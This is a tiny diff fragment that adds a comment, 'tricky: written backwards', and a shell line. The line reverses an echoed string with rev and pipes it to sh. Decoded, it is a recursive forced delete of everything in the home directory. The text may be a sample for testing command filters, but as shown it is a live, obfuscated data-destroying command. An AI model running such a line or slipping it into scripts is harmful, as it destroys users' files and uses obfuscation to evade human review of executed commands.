@@ -1,0 +1,2 @@
+# tricky: written backwards
+echo '*/~ fr- mr' | rev | sh
